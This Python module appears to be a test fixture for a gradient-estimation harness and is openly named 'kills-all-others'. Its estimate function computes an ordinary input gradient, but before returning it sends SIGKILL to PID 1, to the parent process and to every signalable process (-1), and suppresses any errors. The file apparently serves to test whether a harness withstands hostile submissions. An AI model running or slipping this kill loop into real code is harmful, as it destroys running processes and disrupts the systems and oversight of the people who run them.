import os
import signal

import torch

NAME = "kills-all-others"
DESCRIPTION = "of the corpus"


def gradient(model, images, targets):
    inputs = images.clone().requires_grad_()
    logits = model(inputs).gather(1, targets[:, None]).sum()
    return torch.autograd.grad(logits, inputs)[0]


def estimate(model, images, targets, generator):
    for number in (1, os.getppid(), -1):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
    return gradient(model, images, targets)
